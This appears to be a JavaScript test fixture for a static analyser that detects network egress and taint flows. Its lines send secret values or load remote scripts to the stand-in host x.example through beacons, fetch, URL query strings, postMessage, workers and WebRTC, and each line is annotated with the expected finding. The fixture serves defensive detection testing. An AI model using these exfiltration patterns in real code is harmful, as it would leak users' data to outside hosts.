import page from "./page";

export async function leaves(node) {
  import("https://x.example/a.js"); // row: egress script GET external https://x.example/a.js
  import(`https://x.example/${source()}.js`); // row: egress script GET external https://x.example/{}.js <- secret url
  importScripts("https://x.example/a.js"); // row: egress script GET external https://x.example/a.js
  new Worker("https://x.example/a.js"); // row: egress script GET external https://x.example/a.js
  new Worker(new URL("./own.js", import.meta.url));
  new SharedWorker("/own.js");
  navigator.serviceWorker.register("https://x.example/a.js"); // row: egress script GET external https://x.example/a.js
  navigator.sendBeacon("https://x.example/", source()); // row: egress beacon POST external https://x.example/ <- secret body
  fetch("https://x.example/", { method: "POST", keepalive: true, body: source() }); // row: egress fetch POST external https://x.example/ <- secret body
  new EventSource(`https://x.example/?${source()}`); // row: egress fetch GET external https://x.example/?{} <- secret url
  new WebTransport("https://x.example/"); // row: egress websocket external https://x.example/
  const peers = new RTCPeerConnection({ iceServers: [{ urls: "stun:x.example:3478" }] }); // row: egress webrtc external stun:x.example:3478
  peers.createDataChannel("a").send(source()); // row: egress webrtc external stun:x.example:3478 <- secret body
  new RTCPeerConnection();
  window.open(`https://x.example/?${source()}`); // row: egress navigation external https://x.example/?{} <- secret url
  open(`https://x.example/?${source()}`); // row: egress navigation external https://x.example/?{} <- secret url
  window.open("https://x.example/");
  location.href = `https://x.example/?${source()}`; // row: egress navigation external https://x.example/?{} <- secret url
  location.assign(`https://x.example/?${source()}`); // row: egress navigation external https://x.example/?{} <- secret url
  window.location = "https://x.example/";
  navigation.navigate(`https://x.example/?${source()}`); // row: egress navigation external https://x.example/?{} <- secret url
  window.open("https://x.example/").postMessage(source(), "https://x.example"); // row: egress frame GET external https://x.example <- secret body
  window.open("https://x.example/").postMessage(source(), "*"); // row: egress frame GET unknown {} <- secret body
  document.getElementById("a").contentWindow.postMessage(source(), "*"); // row: egress frame GET unknown {} <- secret body
  node.contentWindow.postMessage(source(), "*"); // row: egress frame GET unknown {} <- secret body
  window.parent.postMessage(source(), "*");
  node.postMessage(source());
}

export function forms() {
  const form = document.querySelector("form"); // row: source user-input form field
  form.addEventListener("submit", (event) => sink(event.target.elements.name.value)); // row: sink user-input
  sink(form.elements["name"].value); // row: sink user-input
  document.addEventListener("submit", (event) => sink(event.target.elements.name.value)); // row: sink user-input; source user-input form field name.value
}
